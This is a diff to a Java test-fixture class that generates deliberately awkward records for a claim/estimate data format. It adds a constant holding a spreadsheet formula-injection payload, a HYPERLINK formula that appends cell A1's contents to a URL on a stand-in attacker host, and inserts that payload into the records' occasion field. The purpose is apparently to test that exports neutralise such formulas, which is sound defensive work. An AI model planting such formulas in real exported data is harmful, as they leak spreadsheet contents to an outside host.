@@ -23,6 +23,9 @@ public final class UnrulyRecords {
 	/** A name without a place to break it. */
 	public static final String LONG = "Kim".repeat(166) + "Ha";
 
+	/** What a spreadsheet would run. */
+	public static final String FORMULA = "=HYPERLINK(\"https://evil.example/?\"&A1,\"a, b\")";
+
 	private static final String QUOTED = MARKUP.replace("'", "''");
 
 	private UnrulyRecords() {
@@ -84,12 +87,12 @@ public final class UnrulyRecords {
 					  text: '%1$s %3$d'
 					  cites: [{unknown: '%1$s'}]
 					  places: [town]
-					  occasion: '%2$s'
+					  occasion: '%5$s'
 					  basis: '%1$s'
 					  note: '%2$s'
 					  estimates:
 					  - {id: e1, metric: troops, qualifier: about, figure: %3$d000, asOf: 2024-10-23, wording: '%1$s'}
-					""".formatted(QUOTED, TURNED, number++, source));
+					""".formatted(QUOTED, TURNED, number++, source, FORMULA));
 			if (number > 2) {
 				text.append("  relations:\n  - {kind: contradicts, claim: 2024-10-24-daily-c01}\n");
 			}
